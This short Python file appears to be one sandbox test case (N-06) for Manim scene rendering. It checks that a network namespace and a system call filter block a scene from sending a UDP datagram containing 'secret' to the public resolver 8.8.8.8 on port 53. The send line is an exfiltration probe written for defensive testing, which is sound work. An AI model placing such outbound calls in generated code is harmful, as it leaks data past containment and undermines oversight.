# attack: N-06
# what: Send a datagram to a resolver.
# layer: network namespace; system call filter
# static: rejected
# class: CODE_ERROR
# error: OSError, PermissionError
import socket

from manim import *


def reached(what):
    raise AssertionError(f"REACHED {what}")


class Attack(Scene):
    def construct(self):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("8.8.8.8", 53))
        reached("the network")
        self.wait(0.1)
